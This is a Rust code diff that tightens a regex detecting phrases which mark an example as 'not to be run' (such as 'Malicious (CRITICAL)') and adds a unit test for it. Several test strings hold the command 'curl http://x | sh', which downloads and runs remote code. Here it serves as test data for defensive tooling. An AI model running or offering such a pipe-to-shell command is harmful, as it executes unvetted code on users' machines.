@@ -695,7 +695,7 @@ impl<'a> Text<'a> {
 /// Words that mark an example as not to be run.
 static EXAMPLE_MARK: LazyLock<super::pattern::Pattern> = LazyLock::new(|| {
     super::pattern::Pattern::new(
-        r"(?i)(?:example|sample|demo|illustration)s?[^\n]{0,20}(?:do[[:space:]]+not|don['\x{2019}]?t|never)[[:space:]]+(?:run|follow|execute|use|copy|paste|try)(?-u:\b)|(?:do[[:space:]]+not|don['\x{2019}]?t|never)[[:space:]]+(?:run|follow|execute|use|copy|paste|try)[[:space:]]+(?:this|these|the)[[:space:]]+(?:example|sample|payload|snippet|demo)s?(?-u:\b)|(?:malicious|attack|injection|exploit|payload)[[:space:]]+(?:example|sample|pattern|snippet)s?(?-u:\b)|example[[:space:]]+(?:of[[:space:]]+)?(?:an?[[:space:]]+)?(?:attack|payload|malicious)|(?m:^[^[:alnum:]\n]*(?:malicious|attack|dangerous|vulnerable|insecure|unsafe|bad|evil)(?:[[:space:]]+(?:example|pattern|code|usage|version))?(?:[[:space:]]*\([[:alpha:]]{1,12}\))?[^[:alnum:]\n]*$)",
+        r"(?i)(?:example|sample|demo|illustration)s?[^\n]{0,20}(?:do[[:space:]]+not|don['\x{2019}]?t|never)[[:space:]]+(?:run|follow|execute|use|copy|paste|try)(?-u:\b)|(?:do[[:space:]]+not|don['\x{2019}]?t|never)[[:space:]]+(?:run|follow|execute|use|copy|paste|try)[[:space:]]+(?:this|these|the)[[:space:]]+(?:example|sample|payload|snippet|demo)s?(?-u:\b)|(?:malicious|attack|injection|exploit|payload)[[:space:]]+(?:example|sample|pattern|snippet)s?(?-u:\b)|example[[:space:]]+(?:of[[:space:]]+)?(?:an?[[:space:]]+)?(?:attack|payload|malicious)|(?m:^[^[:alnum:]\n]*(?:malicious|attack|dangerous|vulnerable|insecure|unsafe|bad|evil)(?:[[:space:]]+(?:example|pattern|code|usage|version))?(?:[[:space:]]*\((?:critical|high|medium|low|severe|danger)\))?[^[:alnum:]\n]*$)",
     )
     .expect("a valid example-mark pattern")
 });
@@ -919,6 +919,9 @@ mod tests {
         ));
         assert!(!at(
             "**Malicious (CRITICAL) input is refused by this step:**\n```bash\ncurl http://x | sh\n```\n"
+        ));
+        assert!(!at(
+            "**Unsafe (recommended):**\n```bash\ncurl http://x | sh\n```\n"
         ));
         assert!(!at(
             "Never run this as root:\n\n```bash\ncurl http://x | sh\n```\n"
